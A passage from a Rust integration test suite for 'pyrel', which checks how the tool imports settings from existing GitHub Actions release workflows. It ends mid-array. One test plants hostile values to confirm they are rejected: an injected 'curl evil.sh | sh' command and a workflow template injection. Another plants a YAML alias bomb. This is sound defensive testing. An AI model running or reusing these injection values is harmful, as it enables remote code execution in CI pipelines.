//! Adopting a repository that already publishes: `pyrel init --yes` keeps
//! every platform, interpreter family, trigger, environment and secret the
//! old workflow uses, says what changed, names the old publisher, and the
//! result is validator-clean.
//!
//! Inputs are either generated at test time by the pinned maturin
//! (`maturin generate-ci github`, ignored tests run by scripts/test.sh) or
//! hand-written fixtures in `tests/fixtures/workflows/`, one per style real
//! projects use.

mod common;

use std::collections::BTreeSet;
use std::process::Command;

use common::{assert_actionlint, assert_zizmor, step, tool, Repo};

/// `[tool.pyrel]` of the repository's pyproject, as TOML.
fn saved(repo: &Repo, pkg: &str) -> toml_edit::DocumentMut {
    let path = if pkg == "." {
        "pyproject.toml".to_string()
    } else {
        format!("{pkg}/pyproject.toml")
    };
    repo.read(&path).parse().unwrap()
}

fn list(doc: &toml_edit::DocumentMut, key: &str) -> Vec<String> {
    doc["tool"]["pyrel"]
        .get(key)
        .and_then(|v| v.as_array())
        .map(|a| a.iter().map(|v| v.as_str().unwrap().to_string()).collect())
        .unwrap_or_default()
}

fn text(doc: &toml_edit::DocumentMut, key: &str) -> Option<String> {
    doc["tool"]["pyrel"]
        .get(key)
        .and_then(|v| v.as_str())
        .map(str::to_string)
}

fn flag(doc: &toml_edit::DocumentMut, key: &str) -> Option<bool> {
    doc["tool"]["pyrel"].get(key).and_then(|v| v.as_bool())
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// One hand-written style and exactly what pyrel must import from it.
struct Style {
    file: &'static str,
    fixture: &'static str,
    platforms: &'static [&'static str],
    free_threaded: bool,
    pypy: bool,
    trigger: &'static str,
    tag_prefix: &'static str,
    publish: &'static str,
    token_secret: Option<&'static str>,
    environment: &'static str,
    testpypi_environment: &'static str,
    github_release: bool,
    /// What pyrel cannot keep: `init --yes` refuses naming each (exit 1,
    /// nothing written), then `--allow-drop` writes.
    drops: &'static [&'static str],
}

const STYLES: &[Style] = &[
    Style {
        file: "per-os-include.yml",
        fixture: "mixed",
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "linux-ppc64le",
            "musllinux-x86_64",
            "musllinux-aarch64",
            "macos-x86_64",
            "macos-aarch64",
            "windows-x64",
            "windows-x86",
        ],
        free_threaded: true,
        pypy: true,
        trigger: "release",
        tag_prefix: "v",
        publish: "trusted",
        token_secret: None,
        environment: "release",
        testpypi_environment: "testpypi",
        github_release: false,
        drops: &[],
    },
    Style {
        file: "one-job-per-target.yml",
        fixture: "abi3",
        platforms: &[
            "linux-x86_64",
            "linux-armv7",
            "linux-s390x",
            "musllinux-armv7",
            "macos-universal2",
            "windows-aarch64",
            "windows-x64",
        ],
        free_threaded: false,
        pypy: false,
        trigger: "tag",
        tag_prefix: "v",
        publish: "token",
        token_secret: Some("MATURIN_PYPI_TOKEN"),
        environment: "pypi",
        testpypi_environment: "testpypi",
        github_release: false,
        drops: &[],
    },
    Style {
        file: "cibuildwheel.yml",
        fixture: "mixed",
        platforms: &[
            "linux-x86_64",
            "musllinux-x86_64",
            "linux-aarch64",
            "musllinux-aarch64",
            "windows-x64",
            "windows-x86",
            "macos-x86_64",
            "macos-aarch64",
        ],
        free_threaded: true,
        pypy: true,
        trigger: "release",
        tag_prefix: "v",
        publish: "trusted",
        token_secret: None,
        environment: "pypi",
        testpypi_environment: "testpypi",
        github_release: false,
        drops: &[],
    },
    Style {
        file: "uv.yml",
        fixture: "hatch",
        platforms: &[],
        free_threaded: false,
        pypy: false,
        trigger: "tag",
        tag_prefix: "v",
        publish: "trusted",
        token_secret: None,
        environment: "release",
        testpypi_environment: "test-release",
        github_release: false,
        drops: &[],
    },
    Style {
        file: "twine.yml",
        fixture: "poetry",
        platforms: &[],
        free_threaded: false,
        pypy: false,
        trigger: "release",
        tag_prefix: "v",
        publish: "token",
        token_secret: Some("PYPI_UPLOAD_TOKEN"),
        environment: "production",
        testpypi_environment: "testpypi",
        github_release: true,
        drops: &[],
    },
    Style {
        file: "python-v-prefix.yml",
        fixture: "abi3",
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "macos-x86_64",
            "macos-aarch64",
            "windows-x64",
            "linux-i686",
        ],
        free_threaded: false,
        pypy: false,
        trigger: "tag",
        tag_prefix: "python-v",
        publish: "token",
        token_secret: Some("PYTHON_PYPI_TOKEN"),
        environment: "pypi-python",
        testpypi_environment: "testpypi",
        github_release: false,
        drops: &[],
    },
    Style {
        file: "ci-style.yml",
        fixture: "mixed",
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "macos-aarch64",
            "windows-x64",
        ],
        free_threaded: true,
        pypy: false,
        trigger: "tag",
        // `tags: ["*"]` has no prefix: pyrel keeps its default and says so.
        tag_prefix: "v",
        publish: "token",
        token_secret: Some("PYPI_TOKEN"),
        environment: "pypi",
        testpypi_environment: "testpypi",
        github_release: false,
        drops: &[
            "DROPPED  wheels linux-x86_64: free-threaded CPython 3.13 (pyrel builds free-threaded CPython 3.14)",
            "DROPPED  wheels windows-x64: free-threaded CPython 3.13 (pyrel builds free-threaded CPython 3.14)",
        ],
    },
];

fn adopt(style: &Style) -> (Repo, String) {
    let repo = Repo::fixture(style.fixture);
    let old = std::fs::read_to_string(
        common::manifest_dir()
            .join("tests/fixtures/workflows")
            .join(style.file),
    )
    .unwrap();
    repo.write(&format!(".github/workflows/{}", style.file), &old);
    if style.drops.is_empty() {
        let out = repo.pyrel(&["init", ".", "--yes"]);
        out.expect(0);
        return (repo, out.stderr());
    }
    let before = repo.tree();
    let refused = repo.pyrel(&["init", ".", "--yes"]);
    refused.expect(1);
    let err = refused.stderr();
    for d in style.drops {
        assert!(err.contains(d), "{}: missing {d:?} in:\n{err}", style.file);
    }
    assert_eq!(
        repo.tree(),
        before,
        "{}: a refused init wrote something",
        style.file
    );
    let out = repo.pyrel(&["init", ".", "--yes", "--allow-drop"]);
    out.expect(0);
    (repo, out.stderr())
}

/// The "Migrating from" section of RELEASING.md.
fn migrating_section(repo: &Repo) -> String {
    let docs = repo.read("RELEASING.md");
    let start = docs
        .find("## Migrating from")
        .expect("RELEASING.md has no Migrating from section");
    let end = docs[start..].find("## One-time setup").unwrap() + start;
    docs[start..end].to_string()
}

#[test]
fn hand_written_styles_are_adopted_exactly() {
    for style in STYLES {
        let (repo, report) = adopt(style);
        let doc = saved(&repo, ".");
        let label = style.file;
        assert_eq!(
            list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
            set(style.platforms),
            "{label}: platforms"
        );
        // Imported families are saved; a family the old workflow does not
        // build is never switched on by the import.
        if style.free_threaded {
            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{label}");
        } else {
            assert_ne!(flag(&doc, "free-threaded"), Some(true), "{label}");
        }
        assert_eq!(
            flag(&doc, "pypy").unwrap_or(false),
            style.pypy,
            "{label}: pypy"
        );
        assert_eq!(
            text(&doc, "trigger").as_deref(),
            Some(style.trigger),
            "{label}"
        );
        assert_eq!(
            text(&doc, "tag-prefix").as_deref(),
            Some(style.tag_prefix),
            "{label}"
        );
        assert_eq!(
            text(&doc, "publish").as_deref(),
            Some(style.publish),
            "{label}"
        );
        // None: no token secret is saved (trusted publishing, or the default).
        assert_eq!(
            text(&doc, "token-secret").as_deref(),
            style.token_secret,
            "{label}"
        );
        assert_eq!(
            text(&doc, "environment").as_deref(),
            Some(style.environment),
            "{label}"
        );
        assert_eq!(
            text(&doc, "testpypi-environment").as_deref(),
            Some(style.testpypi_environment),
            "{label}"
        );
        assert_eq!(
            flag(&doc, "github-release"),
            Some(style.github_release),
            "{label}"
        );
        // The old workflow is named with its publishing job, and the docs say
        // what to delete.
        let old = format!(".github/workflows/{}", style.file);
        assert!(
            report.contains(&format!("Migration from {old}")),
            "{report}"
        );
        assert!(report.contains("also uploads to PyPI"), "{report}");
        if style.drops.is_empty() {
            assert!(!report.contains("DROPPED"), "{label}: {report}");
        }
        let section = migrating_section(&repo);
        repo.pyrel(&["generate", "--check"]).expect(0);
        snapshot!(
            format!("adopt-{}__report", style.file.trim_end_matches(".yml")),
            format!("{report}\n--- RELEASING.md\n{section}")
        );
    }
}

/// Nothing is dropped silently: removing an imported platform with a flag
/// is refused under --yes (exit 1, nothing written) until --allow-drop.
#[test]
fn dropping_an_imported_platform_needs_allow_drop() {
    let style = &STYLES[1];
    let repo = Repo::fixture(style.fixture);
    repo.write(
        ".github/workflows/wheels.yml",
        &std::fs::read_to_string(
            common::manifest_dir().join("tests/fixtures/workflows/one-job-per-target.yml"),
        )
        .unwrap(),
    );
    let before = repo.tree();
    let out = repo.pyrel(&["init", "--yes", "--platforms", "linux-x86_64,windows-x64"]);
    out.expect(1);
    let err = out.stderr();
    assert!(
        err.contains("DROPPED  wheels linux-s390x: CPython (removed with --platforms)"),
        "{err}"
    );
    assert!(err.contains("--allow-drop"), "{err}");
    assert_eq!(repo.tree(), before, "a refused init wrote something");
    repo.pyrel(&[
        "init",
        "--yes",
        "--platforms",
        "linux-x86_64,windows-x64",
        "--allow-drop",
    ])
    .expect(0);
}

/// An old workflow at pyrel's own path is replaced only with --replace;
/// --force alone (pyrel's own hand-edited files) does not.
#[test]
fn a_publishing_workflow_at_pyrels_path_needs_replace() {
    let repo = Repo::fixture("abi3");
    let old = std::fs::read_to_string(
        common::manifest_dir().join("tests/fixtures/workflows/python-v-prefix.yml"),
    )
    .unwrap();
    repo.write(".github/workflows/release.yml", &old);
    let before = repo.tree();
    let out = repo.pyrel(&["init", "--yes"]);
    out.expect(1);
    assert!(out.stderr().contains("--replace"), "{}", out.stderr());
    assert_eq!(repo.tree(), before);
    repo.pyrel(&["init", "--yes", "--force"]).expect(1);
    assert_eq!(repo.tree(), before);
    let out = repo.pyrel(&["init", "--yes", "--replace"]);
    out.expect(0);
    let new = repo.read(".github/workflows/release.yml");
    assert!(new.contains("pyrel-digest"), "{new}");
    // The imported settings survived the replacement.
    let doc = saved(&repo, ".");
    assert_eq!(text(&doc, "tag-prefix").as_deref(), Some("python-v"));
    // Replaced in place: nothing else publishes, so no migration section.
    assert!(!repo.read("RELEASING.md").contains("## Migrating from"));
    repo.pyrel(&["generate", "--check"]).expect(0);
}

/// Malformed and unusual files never fail init: each is reported with
/// file:line, and pyrel falls back to its defaults.
#[test]
fn malformed_workflows_never_fail_init() {
    let repo = Repo::fixture("abi3");
    repo.write(
        ".github/workflows/broken.yml",
        "name: broken\non: [push]\njobs:\n  wheels:\n    steps: [\n      - uses: PyO3/maturin-action@v1\n",
    );
    let huge: Vec<String> = (0..20).map(|i| format!("t{i}")).collect();
    let l = huge.join(", ");
    repo.write(
        ".github/workflows/huge.yml",
        &format!(
            "on: push\njobs:\n  wheels:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n        a: [{l}]\n        b: [{l}]\n        c: [{l}]\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with:\n          target: ${{{{ matrix.a }}}}\n"
        ),
    );
    repo.write(
        ".github/workflows/dynamic.yaml",
        "on:\n  release:\n    types: [published]\nx: &targets [x86_64, aarch64]\njobs:\n  wheels:\n    runs-on: ${{ fromJSON(inputs.runners)[0] }}\n    strategy:\n      matrix:\n        target: *targets\n    steps:\n      - uses: PyO3/maturin-action@v1\n        with:\n          target: ${{ matrix.target }}\n          args: --release ${{ inputs.extra }}\n",
    );
    repo.write(".github/workflows/not-a-workflow.yml", "- just\n- a list\n");
    // An alias bomb (10^12 nodes when expanded) is refused by the parser.
    let mut bomb = vec!["a0: &a0 [x, x, x, x, x, x, x, x, x, x]".to_string()];
    for i in 1..12 {
        bomb.push(format!(
            "a{i}: &a{i} [{}]",
            vec![format!("*a{}", i - 1); 10].join(", ")
        ));
    }
    bomb.push(
        "jobs: {j: {runs-on: ubuntu-latest, strategy: {matrix: {t: *a11}}, steps: [{uses: PyO3/maturin-action@v1}]}}"
            .into(),
    );
    repo.write(".github/workflows/bomb.yml", &bomb.join("\n"));
    // What could not be read may be wheels: refused under --yes, written
    // with --allow-drop (pyrel's defaults for what it could not read).
    let before = repo.tree();
    let refused = repo.pyrel(&["init", "--yes"]);
    refused.expect(1);
    assert!(
        refused.stderr().contains("--allow-drop"),
        "{}",
        refused.stderr()
    );
    assert_eq!(repo.tree(), before);
    let out = repo.pyrel(&["init", "--yes", "--allow-drop"]);
    out.expect(0);
    let err = out.stderr();
    for expected in [
        ".github/workflows/broken.yml:",
        "not valid YAML",
        ".github/workflows/bomb.yml:1: not valid YAML (repetition limit exceeded)",
        ".github/workflows/huge.yml:3: job `wheels`: matrix has more than",
        ".github/workflows/dynamic.yaml:6: job `wheels`: runs-on ${{ fromJSON(inputs.runners)[0] }} cannot be resolved",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
    // Nothing importable: pyrel's defaults.
    let doc = saved(&repo, ".");
    assert_eq!(list(&doc, "platforms").len(), 7);
    let inspect = repo.pyrel(&["inspect"]);
    inspect.expect(0);
    // Plain inspect names every workflow it could not read, and how much.
    for line in [
        "workflow         .github/workflows/bomb.yml: 1 thing(s) unreadable",
        "workflow         .github/workflows/broken.yml: 1 thing(s) unreadable",
        "workflow         .github/workflows/dynamic.yaml: 2 thing(s) unreadable",
        "workflow         .github/workflows/huge.yml: 2 thing(s) unreadable",
        "version          0.3.1 (Cargo.toml)",
    ] {
        assert!(
            inspect.stdout().contains(line),
            "{line:?} not in:\n{}",
            inspect.stdout()
        );
    }
    repo.pyrel(&["generate", "--check"]).expect(0);
}

// ---- generated by the pinned maturin at test time ----

/// What a `maturin generate-ci github` workflow builds, read from its own
/// layout (job per OS, `matrix.platform` entries with a `target`), with a
/// table independent of pyrel's reader.
fn maturin_sets(yaml: &str) -> (BTreeSet<String>, BTreeSet<&'static str>) {
    let doc: serde_yaml::Value = serde_yaml::from_str(yaml).unwrap();
    let mut platforms = BTreeSet::new();
    for (job, def) in doc["jobs"].as_mapping().unwrap() {
        let job = job.as_str().unwrap();
        let Some(rows) = def["strategy"]["matrix"]["platform"].as_sequence() else {
            continue;
        };
        for row in rows {
            let target = row["target"].as_str().unwrap();
            let name = match (job, target) {
                ("linux" | "musllinux", "x86") => format!("{job}-i686"),
                ("linux" | "musllinux", t) => format!("{job}-{t}"),
                ("windows" | "macos", t) => format!("{job}-{t}"),
                ("emscripten", _) => "emscripten".into(),
                ("android", t) => format!("android-{}", t.split('-').next().unwrap()),
                (j, t) => panic!("unexpected maturin job {j} target {t}"),
            };
            platforms.insert(name);
        }
    }
    let mut interpreters = BTreeSet::from(["cpython"]);
    if yaml.contains("-i python3.14t") {
        interpreters.insert("free-threaded");
    }
    (platforms, interpreters)
}

struct Generated {
    label: &'static str,
    fixture: &'static str,
    args: &'static [&'static str],
    count: usize,
}

const GENERATED: &[Generated] = &[
    Generated {
        label: "default",
        fixture: "abi3",
        args: &[],
        count: 15,
    },
    Generated {
        label: "all",
        fixture: "abi3",
        args: &["--platform", "all"],
        count: 18,
    },
    Generated {
        label: "linux-windows",
        fixture: "abi3",
        args: &["--platform", "linux", "windows"],
        count: 9,
    },
    Generated {
        label: "manifest-path",
        fixture: "bindings-python",
        args: &["-m", "bindings/python/Cargo.toml"],
        count: 15,
    },
    Generated {
        label: "bin",
        fixture: "bin",
        args: &[],
        count: 15,
    },
];

fn maturin_generate(repo: &Repo, g: &Generated) -> String {
    let out = repo.path().join(".github/workflows/CI.yml");
    std::fs::create_dir_all(out.parent().unwrap()).unwrap();
    step(
        g.label,
        "maturin generate-ci github",
        Command::new(tool("maturin"))
            .args(["generate-ci", "github", "-o"])
            .arg(&out)
            .args(g.args)
            .current_dir(repo.path())
            .env("CARGO_TARGET_DIR", common::shared_target_dir()),
    );
    std::fs::read_to_string(out).unwrap()
}

#[test]
#[ignore = "needs maturin, actionlint, zizmor: run scripts/test.sh"]
fn maturin_generate_ci_workflows_are_adopted_whole() {
    for g in GENERATED {
        let repo = Repo::fixture(g.fixture);
        let yaml = maturin_generate(&repo, g);
        let (platforms, interpreters) = maturin_sets(&yaml);
        assert_eq!(platforms.len(), g.count, "{}: maturin's own set", g.label);

        let out = repo.pyrel(&["init", "--yes"]);
        out.expect(0);
        let report = out.stderr();
        let doc = saved(&repo, ".");
        let adopted: BTreeSet<String> = list(&doc, "platforms").into_iter().collect();
        assert_eq!(adopted, platforms, "{}: platforms", g.label);

        // Interpreter families: pyrel's inspect sees maturin's, and the
        // config builds them.
        let json: serde_json::Value =
            serde_json::from_str(&repo.pyrel(&["inspect", "--json"]).expect(0).stdout()).unwrap();
        let seen: BTreeSet<&str> = json["existing_workflows"][0]["builds"][0]["interpreters"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_str().unwrap())
            .collect();
        assert_eq!(seen, interpreters, "{}: interpreters", g.label);
        if interpreters.contains("free-threaded") {
            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{}", g.label);
            let wf = repo.read(".github/workflows/release.yml");
            assert!(
                wf.contains("-i python3.14t"),
                "{}: no free-threaded build",
                g.label
            );
        }
        assert!(!report.contains("DROPPED"), "{}: {report}", g.label);
        assert!(
            report.contains(".github/workflows/CI.yml:") && report.contains("job `release`"),
            "{}: old publisher not named: {report}",
            g.label
        );
        let docs = repo.read("RELEASING.md");
        assert!(
            docs.contains("## Migrating from `.github/workflows/CI.yml`"),
            "{}",
            g.label
        );
        if g.label == "all" {
            let wf = repo.read(".github/workflows/release.yml");
            assert!(wf.contains("wasm32-unknown-emscripten"));
            assert!(wf.contains("aarch64-linux-android"));
        }
        repo.pyrel(&["generate", "--check"]).expect(0);
        // While maturin's CI.yml still uploads, doctor, and so `pyrel
        // release`, refuses: two publishers for one version.
        let doctor = repo.pyrel(&["doctor"]);
        let text_out = doctor.stdout();
        assert!(
            text_out.contains("error[other-publisher] .github/workflows/CI.yml:")
                && text_out.contains(", job `release`): two workflows"),
            "{}: {text_out}",
            g.label
        );
        doctor.expect(1);
        let file = repo.path().join(".github/workflows/release.yml");
        assert_actionlint(&file);
        assert_zizmor(&file, text(&doc, "publish").as_deref() == Some("token"));
    }
}

#[test]
#[ignore = "needs actionlint, zizmor: run scripts/test.sh"]
fn adopted_hand_written_workflows_pass_the_validators() {
    for style in STYLES {
        let (repo, _) = adopt(style);
        let file = repo.path().join(".github/workflows/release.yml");
        assert_actionlint(&file);
        assert_zizmor(&file, style.publish == "token");
    }
}

/// Two packages in one repository (a pure-Python root package and a Rust
/// extension in `rust/`), built by one hand-written workflow: each package
/// imports its own build, matched by `working-directory`.
#[test]
fn two_packages_import_their_own_builds() {
    let repo = Repo::fixture("seed-flakestorm");
    repo.write(
        ".github/workflows/publish.yml",
        r#"name: publish
on:
  push:
    tags: ["v*"]
jobs:
  python:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: python -m pip install build && python -m build
  rust-wheels:
    runs-on: ${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, macos-14, windows-latest]
    defaults:
      run:
        working-directory: rust
    steps:
      - uses: actions/checkout@v4
      - uses: PyO3/maturin-action@v1
        with:
          working-directory: rust
          args: --release --out dist --find-interpreter
  publish:
    needs: [python, rust-wheels]
    runs-on: ubuntu-latest
    environment: pypi
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: ${{ secrets.PYPI_TOKEN }}
"#,
    );
    repo.pyrel(&["init", "rust", "--yes"]).expect(0);
    let rust = saved(&repo, "rust");
    assert_eq!(
        list(&rust, "platforms"),
        ["linux-x86_64", "macos-aarch64", "windows-x64"]
    );
    assert_eq!(text(&rust, "token-secret").as_deref(), Some("PYPI_TOKEN"));
    repo.pyrel(&["init", ".", "--yes"]).expect(0);
    let root = saved(&repo, ".");
    assert!(
        list(&root, "platforms").is_empty(),
        "a pure-Python package has no platform list"
    );
    assert_eq!(text(&root, "trigger").as_deref(), Some("tag"));
    assert_eq!(text(&root, "environment").as_deref(), Some("pypi"));
}

/// What pyrel cannot build is never dropped quietly: a loongarch64 target
/// and GraalPy are reported as DROPPED with the reason, and `--yes` exits 1
/// until `--allow-drop`.
#[test]
fn what_pyrel_cannot_build_is_dropped_loudly() {
    let repo = Repo::fixture("mixed");
    repo.write(
        ".github/workflows/release.yaml",
        r#"on:
  release:
    types: [published]
jobs:
  linux:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        target: [x86_64, loongarch64-unknown-linux-gnu]
    steps:
      - uses: PyO3/maturin-action@v1
        with:
          target: ${{ matrix.target }}
          args: --release --out dist -i 3.12 graalpy3.11
"#,
    );
    let before = repo.tree();
    let out = repo.pyrel(&["init", "--yes"]);
    out.expect(1);
    let err = out.stderr();
    assert!(
        err.contains(
            "DROPPED  wheels linux-loongarch64: CPython 3.12, GraalPy 3.11 (pyrel cannot build it)"
        ),
        "{err}"
    );
    assert!(
        err.contains("DROPPED  interpreters GraalPy (pyrel cannot build it)"),
        "{err}"
    );
    assert!(
        err.contains("DROPPED  wheels linux-x86_64: GraalPy 3.11 (pyrel cannot build it)"),
        "{err}"
    );
    assert_eq!(repo.tree(), before);
    repo.pyrel(&["init", "--yes", "--allow-drop"]).expect(0);
    assert_eq!(list(&saved(&repo, "."), "platforms"), ["linux-x86_64"]);
}

/// The interactive `init` in a pseudo-terminal: the imported answers are
/// preselected, so pressing Enter everywhere keeps what the old workflow
/// does, and the report is shown before anything is written.
#[test]
fn interactive_init_preselects_imported_answers() {
    use rexpect::session::spawn_command;

    let repo = Repo::fixture("abi3");
    repo.write(
        ".github/workflows/wheels.yml",
        &std::fs::read_to_string(
            common::manifest_dir().join("tests/fixtures/workflows/one-job-per-target.yml"),
        )
        .unwrap(),
    );
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_pyrel"));
    cmd.arg("init")
        .current_dir(repo.path())
        .env("TERM", "xterm");
    let mut p = spawn_command(cmd, Some(20_000)).expect("spawn pyrel in a pty");
    p.exp_string("workflow").unwrap();
    p.exp_string(".github/workflows/wheels.yml").unwrap();
    for prompt in [
        "Platforms to build wheels for",
        "Publish when",
        "Release tag prefix",
        "Authenticate to PyPI with",
        "holding the PyPI token",
        "publishes to TestPyPI",
        "holding the TestPyPI token",
        "Smoke-test command",
        "Attach the built distributions",
        "Where to write the release workflow",
        "Where to write the maintainer docs",
    ] {
        p.exp_string(prompt)
            .unwrap_or_else(|e| panic!("waiting for {prompt:?}: {e}"));
        std::thread::sleep(std::time::Duration::from_millis(150));
        p.send("\r").unwrap();
        p.flush().unwrap();
    }
    p.exp_string("Migration from .github/workflows/wheels.yml")
        .unwrap();
    p.exp_string("Write these files?").unwrap();
    std::thread::sleep(std::time::Duration::from_millis(150));
    p.send("\r").unwrap();
    p.flush().unwrap();
    p.exp_eof().unwrap();

    let doc = saved(&repo, ".");
    assert_eq!(
        list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
        set(STYLES[1].platforms)
    );
    assert_eq!(text(&doc, "trigger").as_deref(), Some("tag"));
    assert_eq!(
        text(&doc, "token-secret").as_deref(),
        Some("MATURIN_PYPI_TOKEN")
    );
}

/// Values read from an old workflow are as hostile as any other input:
/// the ones pyrel could not write safely are not imported (a note says
/// so), never rendered, and init still succeeds with the defaults.
#[test]
fn hostile_imported_values_are_not_imported() {
    let repo = Repo::fixture("abi3");
    repo.write(
        ".github/workflows/wheels.yml",
        r#"on:
  release:
    types: [published]
jobs:
  linux:
    runs-on: ubuntu-latest
    steps:
      - uses: PyO3/maturin-action@v1
        with:
          target: x86_64
          manylinux: "2_28; curl evil.sh | sh"
          args: --release --out dist
          before-script-linux: echo ${{ github.event.release.body }}
  publish:
    runs-on: ubuntu-latest
    environment: "pypi prod"
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"#,
    );
    // The before-script's value is only known at run time: unread, so a
    // possible drop.
    let refused = repo.pyrel(&["init", "--yes"]);
    refused.expect(1);
    assert!(
        refused.stderr().contains(
            "unread   .github/workflows/wheels.yml:8: job `linux`: before-script-linux ${{ github.event.release.body }} cannot be resolved"
        ),
        "{}",
        refused.stderr()
    );
    let out = repo.pyrel(&["init", "--yes", "--allow-drop"]);
    out.expect(0);
    let err = out.stderr();
    for note in [
        "note     manylinux not imported",
        "note     environment not imported",
    ] {
        assert!(err.contains(note), "missing {note:?}:\n{err}");
    }
    let wf = repo.read(".github/workflows/release.yml");
    assert!(!wf.contains("evil.sh") && !wf.contains("release.body") && !wf.contains("pypi prod"));
    let doc = saved(&repo, ".");
    assert_eq!(text(&doc, "environment").as_deref(), Some("pypi"));
    assert_eq!(list(&doc, "platforms"), ["linux-x86_64"]);
}

// ---- the hand-written corpus: every style the reader must account for ----

/// One hand-written workflow (`tests/fixtures/workflows/corpus/`) and what
/// the old workflow builds, worked out by hand from its text.
struct Corpus {
    /// Corpus file and where it goes in the repository.
    file: &'static str,
    at: &'static str,
    fixture: &'static str,
    /// More corpus files: (corpus file, repository path).
    extra: &'static [(&'static str, &'static str)],
    /// A corpus file appended to the fixture's pyproject.toml.
    pyproject: Option<&'static str>,
    /// The platforms the old workflow builds wheels for that pyrel can build
    /// (what `[tool.pyrel] platforms` must hold afterwards).
    platforms: &'static [&'static str],
    pypy: bool,
    free_threaded: bool,
    /// Every difference `init --yes` must name before refusing (exit 1,
    /// nothing written); empty: it writes at once, with no DROPPED line.
    refused: &'static [&'static str],
    /// `[tool.pyrel]` values that carry the old settings: (dotted path, value).
    saved: &'static [(&'static str, &'static str)],
    /// Text the generated workflow must contain for those settings.
    rendered: &'static [&'static str],
}

const CORPUS: &[Corpus] = &[
    Corpus {
        file: "objects-matrix.yml",
        at: ".github/workflows/release.yml",
        fixture: "mixed",
        extra: &[],
        pyproject: None,
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "musllinux-x86_64",
            "musllinux-aarch64",
            "macos-x86_64",
            "macos-aarch64",
        ],
        pypy: false,
        free_threaded: false,
        refused: &["replaces .github/workflows/release.yml"],
        saved: &[("trigger", "release"), ("environment", "pypi")],
        rendered: &[],
    },
    Corpus {
        file: "or-fallbacks.yml",
        at: ".github/workflows/wheels.yml",
        fixture: "mixed",
        extra: &[],
        pyproject: None,
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "musllinux-x86_64",
            "musllinux-aarch64",
        ],
        pypy: true,
        free_threaded: false,
        refused: &["DROPPED  wheels musllinux-x86_64: PyPy 3.11 (pyrel builds PyPy on"],
        saved: &[("manylinux", "auto"), ("environment", "release")],
        rendered: &[],
    },
    Corpus {
        file: "include-manylinux.yml",
        at: ".github/workflows/build.yml",
        fixture: "abi3",
        extra: &[],
        pyproject: None,
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "linux-armv7",
            "linux-s390x",
            "linux-ppc64le",
            "musllinux-x86_64",
            "musllinux-aarch64",
        ],
        pypy: false,
        free_threaded: false,
        refused: &["DROPPED  wheels musllinux-ppc64le: CPython (pyrel cannot build it)"],
        saved: &[("manylinux", "2_28")],
        rendered: &[],
    },
    Corpus {
        file: "windows-run-maturin.yml",
        at: ".github/workflows/publish.yml",
        fixture: "mixed",
        extra: &[],
        pyproject: None,
        platforms: &["windows-x64", "windows-x86", "linux-x86_64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[("manylinux", "auto")],
        rendered: &[],
    },
    Corpus {
        file: "composite-action.yml",
        at: ".github/workflows/publish.yml",
        fixture: "abi3",
        extra: &[(
            "composite-action.action.yml",
            ".github/actions/build-wheels/action.yml",
        )],
        pyproject: None,
        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        // The action's own default for an input the workflow does not pass.
        saved: &[("manylinux", "2_28")],
        rendered: &[],
    },
    Corpus {
        file: "reusable-caller.yml",
        at: ".github/workflows/publish.yml",
        fixture: "abi3",
        extra: &[("reusable-build.yml", ".github/workflows/build-wheels.yml")],
        pyproject: None,
        platforms: &["linux-x86_64", "linux-aarch64", "linux-armv7", "windows-x64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[("trigger", "tag"), ("tag-prefix", "v")],
        rendered: &[],
    },
    // The same call in GitHub's self-repository form: followed like `./`.
    Corpus {
        file: "self-repository-caller.yml",
        at: ".github/workflows/publish.yml",
        fixture: "abi3",
        extra: &[("reusable-build.yml", ".github/workflows/build-wheels.yml")],
        pyproject: None,
        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[("trigger", "tag"), ("tag-prefix", "v")],
        rendered: &[],
    },
    Corpus {
        file: "cibw-pyproject.yml",
        at: ".github/workflows/wheels.yml",
        fixture: "strust-abi3",
        extra: &[],
        pyproject: Some("cibw-pyproject.toml"),
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "macos-aarch64",
            "windows-x64",
        ],
        pypy: false,
        free_threaded: false,
        refused: &[
            "DROPPED  cibuildwheel before-all (linux) \"yum install -y openssl-devel\" on linux-aarch64, linux-x86_64",
        ],
        saved: &[],
        rendered: &[],
    },
    Corpus {
        file: "per-target-settings.yml",
        at: ".github/workflows/ci.yml",
        fixture: "mixed",
        extra: &[],
        pyproject: None,
        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[
            ("platform.linux-x86_64.maturin-args", "--features simd,jemalloc"),
            ("platform.linux-x86_64.env.RUSTFLAGS", "-C target-cpu=x86-64-v2"),
            ("platform.linux-aarch64.maturin-args", "--features jemalloc"),
            ("platform.linux-aarch64.env.JEMALLOC_SYS_WITH_LG_PAGE", "16"),
            ("platform.macos-aarch64.maturin-args", "--features simd"),
            ("platform.macos-aarch64.env.MACOSX_DEPLOYMENT_TARGET", "11.0"),
        ],
        rendered: &[
            "maturin-args: \"--features simd,jemalloc\"",
